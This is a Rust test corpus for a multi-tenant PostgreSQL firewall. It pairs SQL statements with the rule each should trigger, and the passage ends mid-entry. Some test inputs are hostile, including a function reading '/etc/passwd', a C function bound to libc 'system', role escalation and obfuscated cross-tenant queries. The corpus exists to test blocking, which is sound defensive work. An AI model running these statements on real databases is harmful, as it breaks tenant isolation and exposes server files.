//! The firewall's statement corpus: (SQL, expected rule id or OK) for the
//! tenant whose schema is `tenant_a`, the other tenant being `tenant_b`
//! and `extensions` a shared schema. Shared by the unit tests (verdicts)
//! and `tests/firewall.rs` (the same statements through a real proxy).

use super::Policy;
use super::rules::*;

pub const OK: Option<&str> = None;
pub const X: Option<&str> = Some(CROSS_SCHEMA);
pub const SP: Option<&str> = Some(SEARCH_PATH);
pub const ROL: Option<&str> = Some(ROLE);
pub const SA: Option<&str> = Some(SESSION_AUTHORIZATION);
pub const SET: Option<&str> = Some(SETTINGS);
pub const SDDL: Option<&str> = Some(SCHEMA_DDL);
pub const RDDL: Option<&str> = Some(ROLE_DDL);
pub const GR: Option<&str> = Some(GRANT);
pub const EXT: Option<&str> = Some(EXTENSION);
pub const LD: Option<&str> = Some(LOAD);
pub const ADM: Option<&str> = Some(CLUSTER_ADMIN);
pub const FILES: Option<&str> = Some(SERVER_FILES);
pub const DYN: Option<&str> = Some(DYNAMIC_SQL);
pub const OTH: Option<&str> = Some(OTHER_TENANTS);
pub const LN: Option<&str> = Some(LISTEN_NOTIFY);
pub const UNC: Option<&str> = Some(UNCLASSIFIED);
pub const UNP: Option<&str> = Some(UNPARSABLE);

pub const TENANT: &str = "tenant_a";

pub fn policy() -> Policy {
    Policy {
        shared_schemas: vec!["extensions".into()],
        allow_create_extension: false,
    }
}

/// (sql, expected rule id or OK) for tenant `tenant_a`.
pub const CORPUS: &[(&str, Option<&str>)] = &[
    // --- plain DML, own schema, case folding and quoting -------------------
    ("SELECT 1", OK),
    (
        "SELECT abalance FROM pgbench_accounts WHERE aid = 4242;",
        OK,
    ),
    (
        "UPDATE pgbench_accounts SET abalance = abalance + 5 WHERE aid = 7",
        OK,
    ),
    (
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 2, 3, 4, CURRENT_TIMESTAMP)",
        OK,
    ),
    ("SELECT * FROM t", OK),
    ("SELECT * FROM tenant_a.t", OK),
    ("SELECT * FROM TENANT_A.T", OK),
    ("SELECT * FROM \"tenant_a\".t", OK),
    ("SELECT * FROM U&\"\\0074enant_a\".t", OK),
    ("SELECT t.id, t.v FROM tenant_a.t AS t WHERE t.id = $1", OK),
    ("SELECT tenant_a.t.id FROM tenant_a.t", OK),
    ("SELECT * FROM pg_temp.scratch", OK),
    ("CREATE TEMP TABLE scratch (id int)", OK),
    ("CREATE TABLE pg_temp.scratch2 (id int)", OK),
    ("SELECT * FROM tenant_b.t", X),
    ("select * from TENANT_B.t", X),
    ("SELECT * FROM tenant_B.t", X),
    ("SELECT * FROM \"tenant_b\".t", X),
    ("SELECT * FROM \"Tenant_B\".t", X),
    ("SELECT * FROM \"TENANT_A\".t", X),
    ("SELECT * FROM U&\"\\0074enant_b\".t", X),
    ("SELECT * FROM U&\"!0074enant_b\" UESCAPE '!' .t", X),
    ("SELECT * FROM tenant_b/**/./**/t", X),
    ("SELECT * FROM tenant_b . t", X),
    ("SELECT * FROM tenant_b\n.\nt", X),
    ("SELECT * FROM tenant_b.-- comment\nt", X),
    ("SELECT * FROM mydb.tenant_b.t", X),
    ("SELECT * FROM mydb.tenant_a.t", OK),
    ("SELECT * FROM pg_temp_3.t", X),
    ("SELECT * FROM pg_toast.pg_toast_1234", X),
    ("SELECT * FROM public.t", X),
    ("TABLE tenant_b.t", X),
    ("SELECT * FROM ONLY tenant_b.t", X),
    ("SELECT * FROM tenant_b.t*", X),
    ("INSERT INTO tenant_b.t VALUES (1)", X),
    ("INSERT INTO t SELECT * FROM tenant_b.t", X),
    ("UPDATE tenant_b.t SET v = 1", X),
    (
        "UPDATE t SET v = x.v FROM tenant_b.t x WHERE x.id = t.id",
        X,
    ),
    ("DELETE FROM tenant_b.t", X),
    ("DELETE FROM t USING tenant_b.t x WHERE x.id = t.id", X),
    (
        "MERGE INTO t USING tenant_b.src s ON s.id = t.id WHEN MATCHED THEN UPDATE SET v = s.v",
        X,
    ),
    (
        "MERGE INTO tenant_b.t USING src s ON s.id = t.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
        X,
    ),
    (
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = (SELECT v FROM tenant_b.t LIMIT 1)",
        X,
    ),
    (
        "INSERT INTO t VALUES (1) RETURNING (SELECT count(*) FROM tenant_b.t)",
        X,
    ),
    ("SELECT * FROM t FOR UPDATE OF t", OK),
    ("LOCK TABLE tenant_b.t", X),
    ("TRUNCATE tenant_b.t", X),
    ("VACUUM ANALYZE tenant_b.t", X),
    ("ANALYZE t", OK),
    ("CLUSTER tenant_b.t USING t_pkey", X),
    ("REFRESH MATERIALIZED VIEW tenant_b.mv", X),
    // --- subqueries in every clause, CTEs, set operations -----------------
    ("SELECT (SELECT max(id) FROM tenant_b.t) FROM t", X),
    ("SELECT * FROM t WHERE id IN (SELECT id FROM tenant_b.t)", X),
    ("SELECT * FROM t WHERE EXISTS (SELECT 1 FROM tenant_b.t)", X),
    (
        "SELECT * FROM t WHERE id = ANY (SELECT id FROM tenant_b.t)",
        X,
    ),
    ("SELECT * FROM (SELECT * FROM tenant_b.t) s", X),
    ("SELECT * FROM t JOIN tenant_b.u ON u.id = t.id", X),
    (
        "SELECT * FROM t JOIN LATERAL (SELECT * FROM tenant_b.u WHERE u.id = t.id) l ON true",
        X,
    ),
    (
        "SELECT count(*) FROM t GROUP BY id HAVING count(*) > (SELECT count(*) FROM tenant_b.t)",
        X,
    ),
    (
        "SELECT * FROM t ORDER BY (SELECT 1 FROM tenant_b.t LIMIT 1)",
        X,
    ),
    ("SELECT * FROM t LIMIT (SELECT count(*) FROM tenant_b.t)", X),
    (
        "SELECT CASE WHEN id > 0 THEN (SELECT v FROM tenant_b.t LIMIT 1) END FROM t",
        X,
    ),
    (
        "SELECT coalesce(v, (SELECT v FROM tenant_b.t LIMIT 1)) FROM t",
        X,
    ),
    ("SELECT array(SELECT id FROM tenant_b.t)", X),
    (
        "SELECT sum(id) FILTER (WHERE id IN (SELECT id FROM tenant_b.t)) FROM t",
        X,
    ),
    (
        "SELECT row_number() OVER (ORDER BY (SELECT 1 FROM tenant_b.t LIMIT 1)) FROM t",
        X,
    ),
    ("SELECT 1 UNION SELECT id FROM tenant_b.t", X),
    ("SELECT id FROM t EXCEPT SELECT id FROM tenant_b.t", X),
    ("VALUES (1), ((SELECT 1 FROM tenant_b.t LIMIT 1))", X),
    ("WITH x AS (SELECT * FROM tenant_b.t) SELECT * FROM x", X),
    (
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
        OK,
    ),
    (
        "WITH x AS (SELECT * FROM t) SELECT * FROM x JOIN y USING (id, v)",
        OK,
    ),
    (
        "WITH d AS (DELETE FROM tenant_b.t RETURNING *) SELECT * FROM d",
        X,
    ),
    (
        "WITH x AS MATERIALIZED (SELECT 1) SELECT * FROM x, LATERAL (SELECT * FROM tenant_b.t) y",
        X,
    ),
    (
        "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE u.x IN (SELECT x FROM tenant_b.w))",
        X,
    ),
    (
        "SELECT * FROM ROWS FROM (generate_series(1, 3), tenant_b.f())",
        X,
    ),
    ("SELECT * FROM t TABLESAMPLE system (10)", OK),
    ("SELECT * FROM t TABLESAMPLE tenant_b.mysample (10)", X),
    (
        "SELECT * FROM json_to_record('{}') AS x(a int, b tenant_b.mytype)",
        X,
    ),
    // --- multi-statement strings --------------------------------------------
    ("SELECT 1; SELECT 2; SELECT * FROM tenant_b.t", X),
    (
        "BEGIN; UPDATE t SET v = 1; SELECT * FROM tenant_b.t; COMMIT",
        X,
    ),
    ("SELECT 1; SELECT 2; SELECT 3;", OK),
    ("SELECT ';tenant_b.t'; SELECT 2", OK),
    ("SELECT 'tenant_b.t' AS label", OK),
    ("SELECT $$tenant_b.t$$", OK),
    ("SELECT $q$ SELECT * FROM tenant_b.t $q$ AS text", OK),
    ("SELECT 1 -- SELECT * FROM tenant_b.t", OK),
    ("SELECT 1 /* tenant_b.t */", OK),
    // --- functions, types, operators, collations ----------------------------
    ("SELECT tenant_b.f(1)", X),
    ("SELECT tenant_a.f(1)", OK),
    ("SELECT TENANT_B.F(1)", X),
    ("SELECT \"tenant_b\".\"f\"()", X),
    ("SELECT mydb.tenant_b.f()", X),
    ("SELECT extensions.uuid_generate_v4()", OK),
    (
        "SELECT pg_catalog.now(), information_schema._pg_truetypid(a, t) FROM x a, y t",
        OK,
    ),
    ("SELECT count(*) FROM t WHERE id > tenant_b.threshold()", X),
    ("CALL tenant_b.proc()", X),
    ("CALL proc(1)", OK),
    ("SELECT id::tenant_b.mytype FROM t", X),
    ("SELECT CAST(id AS tenant_b.mytype) FROM t", X),
    ("SELECT NULL::tenant_b.t", X),
    ("SELECT ARRAY[1]::tenant_b.d[]", X),
    ("SELECT '1'::pg_catalog.int4, 'x'::text, 1::bigint", OK),
    ("SELECT '{}'::extensions.hstore", OK),
    (
        "SELECT * FROM json_populate_record(NULL::tenant_b.t, '{}')",
        X,
    ),
    ("SELECT 1 OPERATOR(tenant_b.+) 2", X),
    ("SELECT 1 OPERATOR(pg_catalog.+) 2", OK),
    ("SELECT * FROM t WHERE v OPERATOR(tenant_b.~~) 'x'", X),
    (
        "SELECT * FROM t WHERE id OPERATOR(tenant_b.=) ANY (SELECT 1)",
        X,
    ),
    ("SELECT * FROM t ORDER BY id USING OPERATOR(tenant_b.<)", X),
    ("SELECT * FROM t ORDER BY id USING <", OK),
    ("SELECT v COLLATE tenant_b.c FROM t", X),
    ("SELECT v COLLATE \"C\" FROM t", OK),
    ("SELECT v COLLATE pg_catalog.\"default\" FROM t", OK),
    ("SELECT tenant_b.t.id FROM t", X),
    ("SELECT mydb.tenant_b.t.id FROM t", X),
    ("SELECT tenant_b.t.* FROM t", X),
    ("SELECT t.* FROM t", OK),
    // --- names given as text -------------------------------------------------
    ("SELECT 'tenant_b.t'::regclass", X),
    ("SELECT 'tenant_a.t'::regclass", OK),
    ("SELECT 't'::regclass", OK),
    ("SELECT 'TENANT_B.T'::regclass", X),
    ("SELECT '\"Tenant_B\".t'::regclass", X),
    ("SELECT 'tenant_b.t'::pg_catalog.regclass::oid", X),
    ("SELECT CAST('tenant_b.t' AS regclass)", X),
    ("SELECT regclass 'tenant_b.t'", X),
    ("SELECT regclass('tenant_b.t')", X),
    (
        "SELECT 'tenant_b.f'::regproc, 'tenant_b.f(int)'::regprocedure",
        X,
    ),
    ("SELECT 'tenant_b.+'::regoper", X),
    ("SELECT 'tenant_b.mytype'::regtype", X),
    ("SELECT 'tenant_b'::regnamespace", X),
    ("SELECT 'tenant_a'::regnamespace", OK),
    ("SELECT 'pg_catalog'::regnamespace", OK),
    ("SELECT to_regclass('tenant_b.t')", X),
    ("SELECT to_regclass('t')", OK),
    ("SELECT pg_catalog.to_regclass('tenant_b.t')", X),
    ("SELECT to_regnamespace('tenant_b')", X),
    ("SELECT to_regtype('tenant_b.mytype')", X),
    ("SELECT to_regproc('tenant_b.f')", X),
    ("SELECT nextval('tenant_b.s')", X),
    ("SELECT nextval('s')", OK),
    ("SELECT nextval('tenant_a.s')", OK),
    ("SELECT nextval('tenant_b.s'::regclass)", X),
    ("SELECT currval('tenant_b.s'), setval('tenant_b.s', 1)", X),
    ("SELECT pg_get_serial_sequence('tenant_b.t', 'id')", X),
    ("SELECT pg_get_serial_sequence('t', 'id')", OK),
    (
        "SELECT pg_relation_size('tenant_b.t'), pg_total_relation_size('t')",
        X,
    ),
    ("SELECT has_table_privilege('tenant_b.t', 'SELECT')", X),
    ("SELECT has_table_privilege('someone', 't', 'SELECT')", OK),
    ("SELECT has_schema_privilege('tenant_b', 'USAGE')", X),
    ("SELECT has_schema_privilege('tenant_a', 'USAGE')", OK),
    ("SELECT nextval(seqname) FROM config", OK),
    ("SELECT nextval('tenant' || '_b.s')", OK),
    ("SELECT to_regclass('\"unterminated.t')", X),
    ("CREATE TABLE t2 (id int DEFAULT nextval('tenant_b.s'))", X),
    (
        "ALTER TABLE t ALTER COLUMN id SET DEFAULT nextval('tenant_b.s'::regclass)",
        X,
    ),
    // --- settings: search_path, role, session authorization ------------------
    ("SET search_path = tenant_b", SP),
    ("SET search_path TO tenant_a, tenant_b", SP),
    ("SET search_path TO tenant_a", OK),
    (
        "SET search_path TO \"$user\", tenant_a, extensions, pg_catalog, pg_temp",
        OK,
    ),
    ("SET search_path = 'tenant_b'", SP),
    ("SET search_path = public", SP),
    ("SET LOCAL search_path = tenant_b", SP),
    ("SET SESSION search_path = tenant_b", SP),
    ("SET SEARCH_PATH = tenant_b", SP),
    ("SET \"search_path\" = tenant_b", SP),
    ("SET \"Search_Path\" = tenant_b", SP),
    ("SET SCHEMA 'tenant_b'", SP),
    ("SET search_path = DEFAULT", OK),
    ("RESET search_path", OK),
    ("SELECT set_config('search_path', 'tenant_b', false)", SP),
    (
        "SELECT set_config('search_path', 'tenant_a, extensions', true)",
        OK,
    ),
    ("SELECT pg_catalog.set_config('search_path', '', false)", OK),
    ("SELECT set_config('SEARCH_PATH', 'TENANT_B', false)", SP),
    (
        "SELECT set_config('search_path', current_setting('x'), false)",
        SP,
    ),
    ("SELECT set_config(name, 'x', false) FROM settings", SET),
    ("SELECT set_config('application_name', 'x', false)", OK),
    ("SELECT set_config('role', 'postgres', false)", ROL),
    ("SELECT set_config('session_authorization', 'x', false)", SA),
    ("SET ROLE postgres", ROL),
    ("SET ROLE 'tenant_b_role'", ROL),
    ("SET LOCAL ROLE tenant_b_role", ROL),
    ("SET SESSION ROLE tenant_b_role", ROL),
    ("SET ROLE NONE", OK),
    ("RESET ROLE", OK),
    ("SET SESSION AUTHORIZATION tenant_b_role", SA),
    ("SET SESSION AUTHORIZATION DEFAULT", OK),
    ("RESET SESSION AUTHORIZATION", OK),
    ("RESET ALL", OK),
    ("DISCARD ALL", OK),
    ("DISCARD PLANS", OK),
    ("SET standard_conforming_strings = off", SET),
    ("SET standard_conforming_strings = on", OK),
    (
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        SET,
    ),
    ("SET client_encoding = 'SJIS'", SET),
    ("SET NAMES 'GBK'", SET),
    ("SET client_encoding = 'UTF8'", OK),
    ("SET NAMES 'utf-8'", OK),
    ("SET application_name = 'psql'", OK),
    ("SET statement_timeout = '5s'", OK),
    ("SET TIME ZONE 'UTC'", OK),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", OK),
    ("SHOW search_path", OK),
    ("SHOW ALL", OK),
    ("SET check_function_bodies = false", OK),
    // --- schema, role, database DDL --------------------------------------------
    ("CREATE SCHEMA tenant_c", SDDL),
    ("CREATE SCHEMA IF NOT EXISTS tenant_a", SDDL),
    (
        "CREATE SCHEMA s AUTHORIZATION tenant_b_role CREATE TABLE t (id int)",
        SDDL,
    ),
    ("ALTER SCHEMA tenant_a RENAME TO x", SDDL),
    ("ALTER SCHEMA tenant_a OWNER TO someone", SDDL),
    ("DROP SCHEMA tenant_b CASCADE", SDDL),
    ("DROP SCHEMA tenant_a", SDDL),
    ("ALTER TABLE t SET SCHEMA tenant_b", SDDL),
    ("ALTER TABLE t SET SCHEMA extensions", SDDL),
    ("ALTER TABLE tenant_a.t SET SCHEMA tenant_a", OK),
    ("ALTER FUNCTION f(int) SET SCHEMA tenant_b", SDDL),
    ("ALTER TYPE mytype SET SCHEMA tenant_b", SDDL),
    ("CREATE ROLE x", RDDL),
    ("CREATE USER x PASSWORD 'y'", RDDL),
    ("CREATE GROUP g", RDDL),
    ("ALTER ROLE tenant_a_role SET search_path = tenant_b", RDDL),
    ("ALTER USER current_user PASSWORD 'x'", RDDL),
    ("ALTER GROUP g ADD USER u", RDDL),
    ("DROP ROLE x", RDDL),
    ("ALTER DATABASE app SET search_path = public", RDDL),
    ("CREATE DATABASE other", RDDL),
    ("DROP DATABASE other", RDDL),
    ("ALTER SYSTEM SET work_mem = '1GB'", RDDL),
    ("COMMENT ON DATABASE app IS 'x'", RDDL),
    ("COMMENT ON ROLE x IS 'y'", RDDL),
    // --- grants, ownership -------------------------------------------------------
    ("GRANT SELECT ON t TO someone", OK),
    ("GRANT SELECT ON tenant_a.t TO someone", OK),
    ("GRANT SELECT ON tenant_b.t TO tenant_a_role", GR),
    ("REVOKE ALL ON tenant_b.t FROM PUBLIC", GR),
    ("GRANT SELECT ON ALL TABLES IN SCHEMA tenant_b TO x", GR),
    ("GRANT SELECT ON ALL TABLES IN SCHEMA tenant_a TO x", OK),
    ("GRANT USAGE ON SCHEMA tenant_b TO x", GR),
    ("GRANT USAGE ON SCHEMA tenant_a TO x", OK),
    ("GRANT EXECUTE ON FUNCTION tenant_b.f(int) TO x", GR),
    ("GRANT EXECUTE ON FUNCTION f(int) TO x", OK),
    ("GRANT USAGE ON TYPE tenant_b.mytype TO x", GR),
    ("GRANT SELECT ON extensions.t TO x", GR),
    ("GRANT CONNECT ON DATABASE app TO x", GR),
    ("GRANT CREATE ON TABLESPACE ts TO x", GR),
    ("GRANT tenant_b_role TO tenant_a_role", GR),
    ("REVOKE tenant_a_role FROM x", GR),
    (
        "ALTER DEFAULT PRIVILEGES IN SCHEMA tenant_b GRANT SELECT ON TABLES TO x",
        GR,
    ),
    (
        "ALTER DEFAULT PRIVILEGES IN SCHEMA tenant_a GRANT SELECT ON TABLES TO x",
        OK,
    ),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x", OK),
    (
        "ALTER DEFAULT PRIVILEGES FOR ROLE tenant_b_role GRANT SELECT ON TABLES TO x",
        GR,
    ),
    ("ALTER TABLE t OWNER TO tenant_b_role", GR),
    ("ALTER TABLE t OWNER TO CURRENT_USER", OK),
    ("ALTER FUNCTION f() OWNER TO someone", GR),
    ("DROP OWNED BY tenant_b_role", RDDL),
    ("DROP OWNED BY CURRENT_USER", OK),
    ("REASSIGN OWNED BY a TO b", ADM),
    // --- other DDL, in and out of the tenant's schema ------------------------------
    (
        "CREATE TABLE t2 (id int PRIMARY KEY, v text NOT NULL, CHECK (id > 0))",
        OK,
    ),
    ("CREATE TABLE tenant_a.t2 (id int)", OK),
    ("CREATE TABLE tenant_b.t2 (id int)", X),
    ("CREATE TABLE extensions.t2 (id int)", X),
    ("CREATE TABLE pg_catalog.t2 (id int)", X),
    ("CREATE TABLE t2 (LIKE tenant_b.t)", X),
    ("CREATE TABLE t2 (id int REFERENCES tenant_b.t (id))", X),
    (
        "CREATE TABLE t2 (id int REFERENCES t (id) ON DELETE CASCADE, UNIQUE (id, v), v text)",
        OK,
    ),
    (
        "CREATE TABLE t2 PARTITION OF tenant_b.parent FOR VALUES IN (1)",
        X,
    ),
    ("CREATE TABLE t2 () INHERITS (tenant_b.t)", X),
    ("CREATE TABLE t2 OF tenant_b.mytype", X),
    ("CREATE TABLE t2 (v text COLLATE tenant_b.c)", X),
    (
        "CREATE TABLE t2 (c circle, EXCLUDE USING gist (c WITH &&))",
        OK,
    ),
    (
        "CREATE TABLE t2 (c circle, EXCLUDE USING gist (c WITH OPERATOR(tenant_b.&&)))",
        X,
    ),
    (
        "CREATE TABLE t2 (id int GENERATED ALWAYS AS IDENTITY (SEQUENCE NAME tenant_b.s))",
        X,
    ),
    (
        "CREATE TABLE t2 (id int GENERATED ALWAYS AS (tenant_b.f(1)) STORED)",
        X,
    ),
    ("CREATE TABLE t2 AS SELECT * FROM tenant_b.t", X),
    ("CREATE TABLE tenant_b.t2 AS SELECT 1", X),
    ("SELECT * INTO tenant_b.t2 FROM t", X),
    ("SELECT * INTO t2 FROM t", OK),
    ("CREATE VIEW v AS SELECT * FROM tenant_b.t", X),
    ("CREATE VIEW v (a, b) AS SELECT id, v FROM t", OK),
    ("CREATE OR REPLACE VIEW tenant_b.v AS SELECT 1", X),
    ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM tenant_b.t", X),
    ("CREATE INDEX ON t (v)", OK),
    ("CREATE INDEX i ON tenant_b.t (v)", X),
    ("CREATE INDEX i ON t (v tenant_b.myops)", X),
    ("CREATE INDEX i ON t (v COLLATE tenant_b.c)", X),
    ("CREATE INDEX i ON t ((tenant_b.f(v)))", X),
    ("CREATE INDEX i ON t (v) WHERE id IN (1, 2)", OK),
    ("CREATE SEQUENCE s", OK),
    ("CREATE SEQUENCE tenant_b.s", X),
    ("CREATE SEQUENCE s OWNED BY tenant_b.t.id", X),
    ("CREATE SEQUENCE s OWNED BY t.id", OK),
    ("ALTER SEQUENCE s OWNED BY tenant_b.t.id", X),
    ("ALTER SEQUENCE tenant_b.s RESTART", X),
    ("ALTER TABLE t ADD COLUMN c int", OK),
    ("ALTER TABLE tenant_b.t ADD COLUMN c int", X),
    ("ALTER TABLE t ADD COLUMN c tenant_b.mytype", X),
    (
        "ALTER TABLE t ALTER COLUMN v TYPE tenant_b.mytype USING v::tenant_b.mytype",
        X,
    ),
    (
        "ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (id) REFERENCES tenant_b.t (id)",
        X,
    ),
    (
        "ALTER TABLE t ATTACH PARTITION tenant_b.p FOR VALUES IN (1)",
        X,
    ),
    ("ALTER TABLE t INHERIT tenant_b.t", X),
    ("ALTER TABLE t RENAME COLUMN v TO w", OK),
    ("ALTER TABLE t RENAME TO t3", OK),
    ("ALTER TABLE tenant_b.t RENAME TO t3", X),
    ("ALTER TABLE t ENABLE ROW LEVEL SECURITY", OK),
    ("ALTER TABLE t SET (fillfactor = 70)", OK),
    ("DROP TABLE t", OK),
    ("DROP TABLE tenant_a.t, t2", OK),
    ("DROP TABLE tenant_b.t", X),
    ("DROP TABLE t, tenant_b.t", X),
    ("DROP VIEW IF EXISTS tenant_b.v", X),
    ("DROP INDEX CONCURRENTLY tenant_b.i", X),
    ("DROP FUNCTION tenant_b.f(int)", X),
    ("DROP FUNCTION f(tenant_b.mytype)", X),
    ("DROP TYPE tenant_b.mytype", X),
    ("DROP TYPE mytype", OK),
    ("DROP TRIGGER trg ON tenant_b.t", X),
    ("DROP TRIGGER trg ON t", OK),
    ("DROP POLICY p ON tenant_b.t", X),
    ("DROP RULE r ON tenant_b.t", X),
    ("DROP TABLE extensions.t", X),
    ("DROP EXTENSION hstore", EXT),
    ("DROP TABLESPACE ts", ADM),
    ("COMMENT ON TABLE t IS 'x'", OK),
    ("COMMENT ON TABLE tenant_b.t IS 'x'", X),
    ("COMMENT ON COLUMN t.id IS 'x'", OK),
    ("COMMENT ON COLUMN tenant_b.t.id IS 'x'", X),
    ("COMMENT ON FUNCTION tenant_b.f(int) IS 'x'", X),
    ("COMMENT ON SCHEMA tenant_a IS 'x'", OK),
    ("COMMENT ON SCHEMA tenant_b IS 'x'", X),
    ("COMMENT ON TRIGGER trg ON tenant_b.t IS 'x'", X),
    ("COMMENT ON CONSTRAINT c ON DOMAIN tenant_b.d IS 'x'", X),
    ("COMMENT ON EXTENSION hstore IS 'x'", EXT),
    ("CREATE TYPE mood AS ENUM ('sad', 'ok', 'happy')", OK),
    ("CREATE TYPE tenant_b.mood AS ENUM ('sad')", X),
    ("CREATE TYPE pair AS (a int, b tenant_b.mytype)", X),
    ("CREATE TYPE r AS RANGE (subtype = tenant_b.mytype)", X),
    ("ALTER TYPE mood ADD VALUE 'meh'", OK),
    ("ALTER TYPE tenant_b.mood ADD VALUE 'meh'", X),
    ("CREATE DOMAIN d AS int CHECK (VALUE > 0)", OK),
    ("CREATE DOMAIN tenant_b.d AS int", X),
    (
        "CREATE AGGREGATE agg (int) (SFUNC = tenant_b.f, STYPE = int)",
        X,
    ),
    (
        "CREATE AGGREGATE agg (int) (SFUNC = int4pl, STYPE = int)",
        OK,
    ),
    (
        "CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq, COMMUTATOR = OPERATOR(tenant_b.===))",
        X,
    ),
    ("CREATE COLLATION c (locale = 'C')", OK),
    ("CREATE COLLATION c FROM tenant_b.other", X),
    (
        "CREATE STATISTICS st (ndistinct, dependencies) ON id, v FROM t",
        OK,
    ),
    ("CREATE STATISTICS st ON id, v FROM tenant_b.t", X),
    (
        "CREATE POLICY p ON t USING (id = current_setting('app.id')::int)",
        OK,
    ),
    ("CREATE POLICY p ON tenant_b.t USING (true)", X),
    (
        "CREATE POLICY p ON t USING (id IN (SELECT id FROM tenant_b.t))",
        X,
    ),
    (
        "CREATE RULE r AS ON INSERT TO t DO ALSO INSERT INTO tenant_b.log VALUES (1)",
        X,
    ),
    (
        "CREATE RULE r AS ON INSERT TO t DO ALSO INSERT INTO log VALUES (NEW.id)",
        OK,
    ),
    (
        "CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION tenant_b.f()",
        X,
    ),
    (
        "CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit('a.b', 'c')",
        OK,
    ),
    (
        "CREATE TRIGGER trg BEFORE UPDATE OF id, v ON t FOR EACH ROW WHEN (OLD.v IS DISTINCT FROM NEW.v) EXECUTE FUNCTION f()",
        OK,
    ),
    (
        "CREATE TRIGGER trg AFTER INSERT ON tenant_b.t FOR EACH ROW EXECUTE FUNCTION f()",
        X,
    ),
    (
        "CREATE TEXT SEARCH CONFIGURATION cfg (COPY = pg_catalog.english)",
        OK,
    ),
    (
        "CREATE TEXT SEARCH CONFIGURATION cfg (COPY = tenant_b.english)",
        X,
    ),
    (
        "ALTER TEXT SEARCH CONFIGURATION cfg ALTER MAPPING FOR asciiword, word WITH tenant_b.dict",
        X,
    ),
    (
        "ALTER TEXT SEARCH CONFIGURATION cfg ALTER MAPPING FOR asciiword, word WITH simple",
        OK,
    ),
    (
        "CREATE CONVERSION conv FOR 'LATIN1' TO 'UTF8' FROM tenant_b.f",
        X,
    ),
    ("REINDEX TABLE t", OK),
    ("REINDEX SCHEMA tenant_b", X),
    ("REINDEX SCHEMA tenant_a", OK),
    ("REINDEX DATABASE app", ADM),
    ("REINDEX SYSTEM app", ADM),
    ("SET CONSTRAINTS ALL DEFERRED", OK),
    ("SET CONSTRAINTS tenant_b.c DEFERRED", X),
    // --- functions with SQL bodies -------------------------------------------------
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT count(*)::int FROM t $$",
        OK,
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT count(*)::int FROM tenant_b.t $$",
        X,
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT count(*)::int FROM tenant_b.t'",
        X,
    ),
    (
        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1; SELECT 2; DELETE FROM tenant_b.t; SELECT 3 $$ LANGUAGE SQL",
        X,
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM tenant_b.t; END",
        X,
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM t; END",
        OK,
    ),
    (
        "CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql RETURN a + (SELECT count(*) FROM tenant_b.t)",
        X,
    ),
    (
        "CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql IMMUTABLE RETURN a + 1",
        OK,
    ),
    (
        "CREATE FUNCTION tenant_b.f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        X,
    ),
    (
        "CREATE FUNCTION f(a tenant_b.mytype) RETURNS int LANGUAGE sql AS 'SELECT 1'",
        X,
    ),
    (
        "CREATE FUNCTION f() RETURNS tenant_b.mytype LANGUAGE sql AS 'SELECT NULL'",
        X,
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = tenant_b AS 'SELECT count(*)::int FROM t'",
        SP,
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = tenant_a AS 'SELECT 1'",
        OK,
    ),
    ("ALTER FUNCTION f() SET search_path = tenant_b", SP),
    ("ALTER FUNCTION f() SET search_path = tenant_a", OK),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $a$ CREATE FUNCTION g() RETURNS int LANGUAGE sql AS $b$ SELECT * FROM tenant_b.t $b$; SELECT 1 $a$",
        X,
    ),
    (
        "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''/etc/passwd'')'",
        FILES,
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELEC 1 $$",
        OK,
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELEC * FROM tenant_b.t $$",
        UNP,
    ),
    (
        "CREATE FUNCTION f() RETURNS text LANGUAGE c AS 'libc', 'system'",
        ADM,
    ),
    (
        "CREATE FUNCTION f(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all'",
        ADM,
    ),
    (
        "CREATE PROCEDURE p() LANGUAGE sql AS $$ INSERT INTO tenant_b.t VALUES (1) $$",
        X,
    ),
    (
        "CREATE PROCEDURE p() LANGUAGE sql AS $$ INSERT INTO t VALUES (1) $$",
        OK,
    ),
    // --- PL/pgSQL and DO blocks ------------------------------------------------------
    ("DO $$ BEGIN PERFORM 1; END $$", OK),
    (
        "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'mood') THEN CREATE TYPE mood AS ENUM ('a'); END IF; END $$",
        OK,
    ),
    ("DO $$ BEGIN DELETE FROM tenant_b.t; END $$", X),
    ("DO $$ BEGIN PERFORM count(*) FROM tenant_b.t; END $$", X),
    (
        "DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM tenant_b.t; END $$",
        X,
    ),
    (
        "DO $$ DECLARE n int := (SELECT count(*) FROM tenant_b.t); BEGIN NULL; END $$",
        X,
    ),
    (
